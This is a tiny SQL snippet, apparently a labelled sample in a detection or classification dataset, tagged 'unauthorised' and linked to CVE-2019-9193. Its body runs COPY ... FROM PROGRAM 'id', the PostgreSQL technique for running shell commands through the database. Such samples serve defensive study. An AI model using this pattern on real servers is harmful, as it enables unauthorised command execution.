-- class: unauthorised
-- source: CVE-2019-9193 COPY FROM PROGRAM
-- lines: 2
-- arguments: p_n text
BEGIN
  COPY audit FROM PROGRAM 'id';
END
